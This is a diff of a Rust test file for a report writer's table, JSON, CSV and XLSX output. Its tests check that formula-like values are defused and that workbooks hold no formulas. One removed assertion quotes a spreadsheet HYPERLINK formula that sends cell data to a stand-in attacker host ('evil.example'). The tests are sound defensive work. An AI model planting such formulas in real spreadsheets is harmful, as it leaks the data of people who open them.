@@ -1,28 +1,24 @@
-//! Table, JSON, CSV and XLSX.
+//! Every form of the report and of lists: table, JSON, CSV and XLSX.
 
-use std::collections::HashMap;
-use std::io::{self, Read, Write};
+use std::io::{self, Write};
 
-use encoding_rs::GB18030;
 use insta::assert_snapshot;
 use serde_json::Value;
 
+use super::workbook::unzip;
 use super::*;
 use crate::domain::locale::Locale;
-use crate::domain::zone::Zone;
-use crate::report::columns::DAILY;
-use crate::report::xlsx::{XLSX_ROWS_MAX, workbook};
 use crate::report::{
-    Cell, Column, Encoding, Instants, Kind, Listing, Options, ReportError, ReportFormat, write,
+    Cell, Column, Encoding, Kind, Listing, Options, ReportError, ReportFormat, write,
 };
 
-fn bytes(rows: &[ShownRow], format: ReportFormat, options: Options) -> Vec<u8> {
+pub(super) fn bytes(rows: &[ShownRow], format: ReportFormat, options: Options) -> Vec<u8> {
     let mut out = Vec::new();
     write(rows, format, &options, &mut out).unwrap();
     out
 }
 
-fn text(rows: &[ShownRow], format: ReportFormat) -> String {
+pub(super) fn text(rows: &[ShownRow], format: ReportFormat) -> String {
     String::from_utf8(bytes(rows, format, Options::default())).unwrap()
 }
 
@@ -156,124 +152,6 @@ fn csv_begins_with_a_byte_order_mark_and_defuses_formulas() {
 }
 
 #[test]
-fn csv_for_people_has_their_headings_words_yuan_and_local_times_and_ids_stay_text() {
-    let zone = Zone::parse("Asia/Shanghai").unwrap();
-    let text = |locale| {
-        let options = Options {
-            headers: Some(locale),
-            instants: Instants::Local(zone),
-            ..Options::default()
-        };
-        String::from_utf8(bytes(&plain_rows()[3..4], ReportFormat::Csv, options)).unwrap()
-    };
-    let (zh, en) = (text(Locale::ZhCn), text(Locale::En));
-    assert!(
-        zh.starts_with("\u{feff}日期,版本,取数时间,层级,编号,名称,")
-            && zh.contains(",出账金额(元),"),
-        "{zh}"
-    );
-    assert!(
-        zh.contains("2026-05-31,2,2026-06-02 01:00 Asia/Shanghai,集团,G0001,")
-            && zh.contains(",1234567.89,"),
-        "{zh}"
-    );
-    assert!(
-        en.starts_with("\u{feff}date,version,as_of,scope,")
-            && en.contains(",billed_yuan,")
-            && en.contains(",1234567.89,"),
-        "{en}"
-    );
-    let mut list = Listing::new(vec![Column::text("id", "编号")]);
-    for id in [
-        "460001234567890",
-        "13800008000",
-        "0731",
-        "0",
-        "=1",
-        "12345678901x",
-    ] {
-        list.push(vec![id.into()]);
-    }
-    let lines = |headers| {
-        let mut out = Vec::new();
-        list.write(
-            ReportFormat::Csv,
-            &Options {
-                headers,
-                byte_order_mark: false,
-                ..Options::default()
-            },
-            &mut out,
-        )
-        .unwrap();
-        String::from_utf8(out).unwrap()
-    };
-    assert_eq!(
-        lines(None),
-        "id\r\n460001234567890\r\n13800008000\r\n0731\r\n0\r\n'=1\r\n12345678901x\r\n"
-    );
-    let for_people = "编号\r\n\"\t460001234567890\"\r\n13800008000\r\n\"\t0731\"\r\n0\r\n'=1\r\n12345678901x\r\n";
-    assert_eq!(lines(Some(Locale::ZhCn)), for_people);
-}
-
-#[test]
-fn a_rate_has_as_many_digits_as_tell_it_from_its_limit() {
-    for (value, limit, said) in [
-        (0.030_004, 0.03, "超限 3.0004%"),
-        (0.031, 0.03, "超限 3.10%"),
-        (0.03, 0.03, "超限 3.00%"),
-        (0.029_999_999, 0.03, "超限 2.9999999%"),
-    ] {
-        let mut row = row(group("G0001"), "甲", 233, Verdict::Breach);
-        row.indicators[0] = IndicatorCell {
-            value: Some(value),
-            verdict: Verdict::Breach,
-            limit: Some(limit),
-        };
-        let rows = [shown(row)];
-        assert!(
-            text(&rows, ReportFormat::Table).contains(&format!("{said} ")),
-            "{}",
-            text(&rows, ReportFormat::Table)
-        );
-        let json: Value = serde_json::from_str(&text(&rows, ReportFormat::Json)).unwrap();
-        assert_eq!(
-            json[0]["churn_rate"].as_f64(),
-            Some(value),
-            "exact for programs"
-        );
-        let styles = &unzip(&bytes(&rows, ReportFormat::Xlsx, Options::default()))["xl/styles.xml"];
-        assert_eq!(styles.contains("0.0000%"), said == "超限 3.0004%");
-    }
-}
-
-#[test]
-fn csv_in_gb18030_or_without_a_mark_holds_the_same_text() {
-    let rows: Vec<ShownRow> = plain_rows().into_iter().chain(hostile_rows()).collect();
-    let utf8 = text(&rows, ReportFormat::Csv);
-    let bare = bytes(
-        &rows,
-        ReportFormat::Csv,
-        Options {
-            byte_order_mark: false,
-            ..Options::default()
-        },
-    );
-    assert_eq!(utf8.as_bytes()[3..], bare);
-    let national = bytes(
-        &rows,
-        ReportFormat::Csv,
-        Options {
-            encoding: Encoding::Gb18030,
-            ..Options::default()
-        },
-    );
-    assert_ne!(national, bare);
-    let (decoded, _, broken) = GB18030.decode(&national);
-    assert_eq!((decoded.as_bytes(), broken), (bare.as_slice(), false));
-}
-
-#[test]
 fn an_empty_report_is_a_header_or_an_empty_array() {
     assert_eq!(
         serde_json::from_str::<Value>(&text(&[], ReportFormat::Json)).unwrap(),
@@ -291,91 +169,14 @@ fn an_empty_report_is_a_header_or_an_empty_array() {
     );
 }
 
-/// The parts of a zip archive, by its central directory.
-fn unzip(zip: &[u8]) -> HashMap<String, String> {
-    let u16_at = |at: usize| usize::from(u16::from_le_bytes([zip[at], zip[at + 1]]));
-    let u32_at = |at: usize| u16_at(at) + (u16_at(at + 2) << 16);
-    let end = zip.windows(4).rposition(|w| w == b"PK\x05\x06").unwrap();
-    let (count, mut at) = (u16_at(end + 10), u32_at(end + 16));
-    let mut parts = HashMap::new();
-    for _ in 0..count {
-        assert_eq!(&zip[at..at + 4], b"PK\x01\x02");
-        let (size, local) = (u32_at(at + 20), u32_at(at + 42));
-        let name = String::from_utf8(zip[at + 46..at + 46 + u16_at(at + 28)].to_vec()).unwrap();
-        let data = local + 30 + u16_at(local + 26) + u16_at(local + 28);
-        let mut text = String::new();
-        flate2::read::DeflateDecoder::new(&zip[data..data + size])
-            .read_to_string(&mut text)
-            .unwrap();
-        parts.insert(name, text);
-        at += 46 + u16_at(at + 28) + u16_at(at + 30) + u16_at(at + 32);
-    }
-    parts
-}
-
-#[test]
-fn the_workbook_holds_every_cell_and_not_one_formula() {
-    let rows: Vec<ShownRow> = plain_rows().into_iter().chain(hostile_rows()).collect();
-    let xlsx = bytes(&rows, ReportFormat::Xlsx, Options::default());
-    let parts = unzip(&xlsx);
-    let sheet = &parts["xl/worksheets/sheet1.xml"];
-    assert!(
-        !sheet.contains("<f>") && !sheet.contains("<f "),
-        "a formula"
-    );
-    assert!(!sheet.contains("<hyperlink"));
-    assert_eq!(sheet.matches("<row ").count(), rows.len() + 1);
-    let built = DAILY.iter().filter(|daily| daily.is_built()).count();
-    assert_eq!(sheet.matches("<c ").count(), (rows.len() + 1) * built);
-    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("ySplit=\"1\""));
-    assert!(sheet.contains("<v>1234567.89</v>"), "money in yuan");
-    assert!(
-        sheet.contains("<v>46173</v>"),
-        "the day as a sheet counts days"
-    );
-    let texts = &parts["xl/sharedStrings.xml"];
-    assert!(texts.contains("=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"点我\")"));
-    assert!(
-        texts.contains("离网率\nchurn rate")
-            && texts.contains("出账金额(元)\nbilled yuan")
-            && texts.contains("超限 breach")
-    );
-    assert!(!texts.chars().any(|c| c.is_control() && c != '\n') && !texts.contains("_x00"));
-    assert!(
-        parts["xl/styles.xml"].contains("FFFFC7CE"),
-        "over-limit cells are coloured"
-    );
-}
-
-#[test]
-fn equal_rows_make_equal_workbooks() {
-    assert_eq!(
-        bytes(&plain_rows(), ReportFormat::Xlsx, Options::default()),
-        bytes(&plain_rows(), ReportFormat::Xlsx, Options::default())
-    );
-}
-
-#[test]
-fn a_workbook_refuses_more_rows_than_it_can_hold_and_cuts_what_no_cell_holds() {
-    let columns = [Column::text("a", "甲")];
-    let too_many = vec![[Cell::Null]; XLSX_ROWS_MAX + 1];
-    assert!(matches!(
-        workbook("表", &columns, too_many.iter(), 0),
-        Err(ReportError::TooManyRows { rows: 100_001, .. })
-    ));
-    let long = "😀".repeat(20_000);
-    let parts = unzip(&workbook("表", &columns, [[Cell::from(long.as_str())]].iter(), 0).unwrap());
-    assert_eq!(parts["xl/sharedStrings.xml"].matches('😀').count(), 16_383);
-}
-
 #[test]
 #[should_panic(expected = "a row of a listing has a cell for each column")]
 fn a_list_refuses_a_row_with_a_cell_missing() {
     Listing::new(vec![Column::text("a", "甲"), Column::text("b", "乙")]).push(vec![Cell::Null]);
 }
 
-#[test]
-fn a_list_is_written_by_the_same_writers() {
+/// A list with a cell of every kind.
+fn alerts() -> Listing<'static> {
     let mut list = Listing::new(vec![
         Column::text("alert_id", "告警号"),
         Column::text("subject", "对象").masking(),
@@ -386,14 +187,13 @@ fn a_list_is_written_by_the_same_writers() {
         Column::new("billed_fen", "金额", Kind::Fen),
         Column::text("note", "备注").detail(),
     ]);
-    let tasks = ["T1".to_owned(), "T2".to_owned()];
     list.push(vec![
         "A1".into(),
         "号码 13800008000".into(),
         1e-300.into(),
         3_i64.into(),
         true.into(),
-        tasks.as_slice().into(),
+        Cell::List(vec!["T1".into(), "T2".into()]),
         i64::MIN.into(),
         "=1".into(),
     ]);
@@ -407,6 +207,12 @@ fn a_list_is_written_by_the_same_writers() {
         Cell::Null,
         Cell::Null,
     ]);
+    list
+}
+
+#[test]
+fn a_list_is_written_by_the_same_writers() {
+    let list = alerts();
     let text = |format| {
         let mut out = Vec::new();
         list.write(
